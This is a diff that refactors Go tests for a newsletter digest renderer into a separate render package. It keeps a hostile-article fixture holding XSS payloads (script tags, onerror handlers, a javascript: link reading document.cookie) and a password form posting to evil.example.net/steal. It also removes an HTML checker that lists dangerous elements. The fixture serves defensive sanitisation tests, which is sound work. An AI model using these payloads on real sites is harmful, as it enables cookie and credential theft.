@@ -1,11 +1,9 @@
-package digest
+package render
 
 import (
 	"context"
 	"flag"
 	"fmt"
-	"net/http"
-	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
@@ -13,9 +11,8 @@ import (
 	"time"
 	"unicode/utf8"
 
-	"github.com/jmoiron/sqlx"
-	"golang.org/x/net/html"
-
+	"newsletter/digest"
+	"newsletter/internal/digesttest"
 	"newsletter/internal/testdb"
 	"newsletter/templates"
 )
@@ -37,7 +34,7 @@ func newTestRenderer(t testing.TB) *Renderer {
 	if err != nil {
 		t.Fatal(err)
 	}
-	r, err := NewRenderer(fsys, cat, RenderOptions{
+	r, err := NewRenderer(fsys, cat, Options{
 		BaseURL:       "https://digest.example.com",
 		SiteURL:       "https://news.example.com",
 		Publication:   "The Example Times",
@@ -59,7 +56,7 @@ func ts(s string) time.Time {
 }
 
 // hostileArticle is the worst a feed can send, as if the ingester had let all of it through.
-var hostileArticle = Article{
+var hostileArticle = digest.Article{
 	Title:       `<script>alert('title')</script>Hostile <b onmouseover="alert(1)">headline</b> <img src=x onerror="alert(2)">`,
 	GUID:        "example-en-hostile",
 	Link:        "javascript:alert(document.cookie)",
@@ -73,50 +70,10 @@ var hostileArticle = Article{
 		`<form action="https://evil.example.net/steal"><input name="password"></form><img src="https://tracker.example.net/open.gif?u=42" width="1" height="1">`,
 }
 
-// goldenIssues ingests testdata/feeds through the Ingester (served over loopback HTTP) at the
-// fixed clock, pins the sample article as an editor would, sets an editor's note on the English
-// issue and assembles both languages.
-func goldenIssues(t testing.TB, db *sqlx.DB) (*Store, map[string]int64) {
-	t.Helper()
-	ctx := context.Background()
-	s := NewStore(db, func() time.Time { return asmNow })
-	srv := httptest.NewServer(http.FileServer(http.Dir(filepath.Join("testdata", "feeds"))))
-	defer srv.Close()
-	feeds := []FeedConfig{
-		{Lang: "en", URL: srv.URL + "/en.rss.xml"},
-		{Lang: "en", URL: srv.URL + "/en.json-feed.json"},
-		{Lang: "ru", URL: srv.URL + "/ru.atom.xml"},
-	}
-	for _, res := range NewIngester(s, feeds, IngestOptions{BaseURL: "https://digest.example.com", AllowPrivate: true}, nil, nil).PollAll(ctx) {
-		if res.Err != nil || res.New == 0 {
-			t.Fatalf("ingest %s: %d new, %v", res.URL, res.New, res.Err)
-		}
-	}
-	var sample int64
-	if err := db.GetContext(ctx, &sample, `SELECT id FROM articles WHERE link LIKE '%keep-your-terrorists-close'`); err != nil {
-		t.Fatalf("the sample article was not ingested: %v", err)
-	}
-	if _, err := db.ExecContext(ctx, `UPDATE articles SET pinned = true WHERE id = $1`, sample); err != nil {
-		t.Fatal(err)
-	}
-	ids := map[string]int64{}
-	for _, lang := range []string{"en", "ru"} {
-		iss, err := s.Assemble(ctx, lang, 0)
-		if err != nil {
-			t.Fatal(err)
-		}
-		ids[lang] = iss.ID
-	}
-	if err := s.UpdateIssueText(ctx, ids["en"], "", "Welcome to the first issue of our weekly digest.\n\nTell us what you think: just reply to this email."); err != nil {
-		t.Fatal(err)
-	}
-	return s, ids
-}
-
 func TestGolden(t *testing.T) {
 	ctx := context.Background()
 	db := testdb.New(t)
-	s, ids := goldenIssues(t, db)
+	s, ids := digesttest.GoldenIssues(t, db, "../feeds/testdata/feeds")
 	r := newTestRenderer(t)
 	for _, tt := range []struct {
 		lang string
@@ -131,7 +88,7 @@ func TestGolden(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			checkInert(t, out.HTML) // the feeds' hostile item included
+			digesttest.CheckInert(t, out.HTML) // the feeds' hostile item included
 			for ext, got := range map[string]string{"html": out.HTML, "txt": "Subject: " + out.Subject + "\nPreheader: " + out.Preheader + "\n\n" + out.Text} {
 				path := filepath.Join("testdata", "golden", "digest."+tt.lang+"."+ext)
 				if *update {
@@ -145,7 +102,7 @@ func TestGolden(t *testing.T) {
 					t.Fatalf("%v (run with -update to create it)", err)
 				}
 				if got != string(want) {
-					t.Errorf("%s differs from the golden file; if the change is intended, run go test ./digest/ -run Golden -update\n%s", path, firstDiff(string(want), got))
+					t.Errorf("%s differs from the golden file; if the change is intended, run go test ./digest/render/ -run Golden -update\n%s", path, firstDiff(string(want), got))
 				}
 			}
 		})
@@ -173,7 +130,7 @@ func firstDiff(want, got string) string {
 func TestRenderRecipient(t *testing.T) {
 	ctx := context.Background()
 	db := testdb.New(t)
-	s, ids := goldenIssues(t, db)
+	s, ids := digesttest.GoldenIssues(t, db, "../feeds/testdata/feeds")
 	r := newTestRenderer(t)
 	c, err := s.Content(ctx, ids["en"], 0)
 	if err != nil {
@@ -230,14 +187,14 @@ func TestRenderHostile(t *testing.T) {
 	lead.ID, lead.Lang, lead.Pinned = 1, "en", true
 	item := hostileArticle
 	item.ID, item.Lang, item.Section = 2, "en", ""
-	c := Arrange([]Article{lead, item}, 0)
-	c.Issue = Issue{ID: 7, Lang: "en", WindowEnd: asmNow, Note: `<script>alert("note")</script>`}
+	c := digest.Arrange([]digest.Article{lead, item}, 0)
+	c.Issue = digest.Issue{ID: 7, Lang: "en", WindowEnd: digesttest.GoldenNow, Note: `<script>alert("note")</script>`}
 	for _, rcpt := range []Recipient{markerRecipient, {}} {
 		out, err := r.Render(c, rcpt)
 		if err != nil {
 			t.Fatal(err)
 		}
-		checkInert(t, out.HTML)
+		digesttest.CheckInert(t, out.HTML)
 		if !strings.Contains(out.HTML, "Hostile") {
 			t.Error("the hostile headline's text should still show, escaped")
 		}
@@ -245,41 +202,11 @@ func TestRenderHostile(t *testing.T) {
 }
 
 // checkInert fails when doc holds anything active or any non-http(s) link or a foreign image.
-func checkInert(t *testing.T, doc string) {
-	t.Helper()
-	z := html.NewTokenizer(strings.NewReader(doc))
-	for {
-		tt := z.Next()
-		if tt == html.ErrorToken {
-			return
-		}
-		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
-			continue
-		}
-		tok := z.Token()
-		switch tok.Data {
-		case "script", "iframe", "form", "input", "object", "embed", "svg", "button", "frame", "base", "link":
-			t.Errorf("element <%s> in the output", tok.Data)
-		}
-		for _, a := range tok.Attr {
-			if strings.HasPrefix(a.Key, "on") {
-				t.Errorf("event handler %s=%q on <%s>", a.Key, a.Val, tok.Data)
-			}
-			if a.Key == "href" && !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "http://") {
-				t.Errorf("link %q", a.Val)
-			}
-			if a.Key == "src" && !strings.HasPrefix(a.Val, "https://news.example.com/") {
-				t.Errorf("image %q", a.Val)
-			}
-		}
-	}
-}
-
 // TestRenderSize asserts a full digest stays under Gmail's 102 KB clipping limit.
 func TestRenderSize(t *testing.T) {
 	r := newTestRenderer(t)
-	c := Arrange(maxSizeArticles(20), 20)
-	c.Issue = Issue{ID: 123456, Lang: "en", WindowEnd: asmNow, Note: strings.Repeat("A note from the editors. ", 40)}
+	c := digest.Arrange(maxSizeArticles(20), 20)
+	c.Issue = digest.Issue{ID: 123456, Lang: "en", WindowEnd: digesttest.GoldenNow, Note: strings.Repeat("A note from the editors. ", 40)}
 	out, err := r.Render(c, markerRecipient)
 	if err != nil {
 		t.Fatal(err)
@@ -292,19 +219,19 @@ func TestRenderSize(t *testing.T) {
 }
 
 // maxSizeArticles makes n articles with 150-character titles and 300-character summaries.
-func maxSizeArticles(n int) []Article {
+func maxSizeArticles(n int) []digest.Article {
 	sections := []string{"World", "Economy", "Culture", "Science", ""}
-	var out []Article
+	var out []digest.Article
 	for i := range n {
 		title := fmt.Sprintf("Headline number %02d ", i) + strings.Repeat("long words in a headline ", 6)
 		summary := strings.Repeat("A summary sentence that goes on for a while. ", 7)
-		out = append(out, Article{
+		out = append(out, digest.Article{
 			ID: int64(i + 1), Lang: "en", GUID: fmt.Sprintf("max-%d", i),
 			Title: title[:150], Summary: summary[:299] + "…",
 			Link:   fmt.Sprintf("https://news.example.com/en/2026/11/%02d/a-rather-long-article-slug-for-story-number-%d", 1+i%24, i),
 			Author: "Anna Example", Section: sections[i%len(sections)],
 			ImageURL:    fmt.Sprintf("https://news.example.com/images/2026/11/picture-%d.jpg", i),
-			PublishedAt: asmNow.Add(-time.Duration(i) * time.Hour),
+			PublishedAt: digesttest.GoldenNow.Add(-time.Duration(i) * time.Hour),
 		})
 	}
 	return out
@@ -313,7 +240,7 @@ func maxSizeArticles(n int) []Article {
 func TestRenderText(t *testing.T) {
 	ctx := context.Background()
 	db := testdb.New(t)
-	s, ids := goldenIssues(t, db)
+	s, ids := digesttest.GoldenIssues(t, db, "../feeds/testdata/feeds")
 	r := newTestRenderer(t)
 	for lang, id := range ids {
 		c, err := s.Content(ctx, id, 3)
@@ -345,11 +272,11 @@ func TestFormatDate(t *testing.T) {
 		t    time.Time
 		want string
 	}{
-		{"en", asmNow, "25 November 2026"},
-		{"ru", asmNow, "25 ноября 2026"},
+		{"en", digesttest.GoldenNow, "25 November 2026"},
+		{"ru", digesttest.GoldenNow, "25 ноября 2026"},
 		{"ru", ts("2026-03-01T00:00:00Z"), "1 марта 2026"},
 		{"ru", ts("2026-05-09T23:59:00Z"), "9 мая 2026"},
-		{"de", asmNow, "25 November 2026"},
+		{"de", digesttest.GoldenNow, "25 November 2026"},
 	}
 	for _, tt := range tests {
 		if got := FormatDate(tt.lang, tt.t); got != tt.want {
@@ -360,7 +287,7 @@ func TestFormatDate(t *testing.T) {
 
 func TestSubject(t *testing.T) {
 	r := newTestRenderer(t)
-	lead := &Article{Title: "Заголовок\nв две строки"}
+	lead := &digest.Article{Title: "Заголовок\nв две строки"}
 	tests := []struct {
 		name  string
 		lang  string
@@ -379,7 +306,7 @@ func TestSubject(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			c := IssueContent{Issue: Issue{Lang: tt.lang, Subject: tt.set}, Lead: lead, Total: tt.total}
+			c := digest.IssueContent{Issue: digest.Issue{Lang: tt.lang, Subject: tt.set}, Lead: lead, Total: tt.total}
 			if got := r.Subject(c); got != tt.want {
 				t.Errorf("got %q, want %q", got, tt.want)
 			}
@@ -407,10 +334,10 @@ func TestWrapText(t *testing.T) {
 func BenchmarkAssembleRender20(b *testing.B) {
 	ctx := context.Background()
 	db := testdb.New(b)
-	s := NewStore(db, func() time.Time { return asmNow })
+	s := digest.NewStore(db, func() time.Time { return digesttest.GoldenNow })
 	for _, a := range maxSizeArticles(20) {
 		a.ID = 0
-		asmInsert(b, db, a)
+		digesttest.InsertArticle(b, db, a)
 	}
 	r := newTestRenderer(b)
 	b.ReportAllocs()
@@ -443,12 +370,12 @@ func TestRenderOverride(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	r, err := NewRenderer(fsys, cat, RenderOptions{BaseURL: "https://digest.example.com"})
+	r, err := NewRenderer(fsys, cat, Options{BaseURL: "https://digest.example.com"})
 	if err != nil {
 		t.Fatal(err)
 	}
-	c := Arrange([]Article{{ID: 1, Lang: "en", Title: "Lead", PublishedAt: asmNow}}, 0)
-	c.Issue = Issue{ID: 1, Lang: "en", WindowEnd: asmNow}
+	c := digest.Arrange([]digest.Article{{ID: 1, Lang: "en", Title: "Lead", PublishedAt: digesttest.GoldenNow}}, 0)
+	c.Issue = digest.Issue{ID: 1, Lang: "en", WindowEnd: digesttest.GoldenNow}
 	out, err := r.Render(c, Recipient{})
 	if err != nil {
 		t.Fatal(err)
@@ -462,8 +389,8 @@ func TestRenderOverride(t *testing.T) {
 // and never changed, so every result is the same.
 func TestRenderConcurrent(t *testing.T) {
 	r := newTestRenderer(t)
-	c := Arrange(maxSizeArticles(12), 12)
-	c.Issue = Issue{ID: 9, Lang: "ru", WindowEnd: asmNow}
+	c := digest.Arrange(maxSizeArticles(12), 12)
+	c.Issue = digest.Issue{ID: 9, Lang: "ru", WindowEnd: digesttest.GoldenNow}
 	want, err := r.Render(c, markerRecipient)
 	if err != nil {
 		t.Fatal(err)
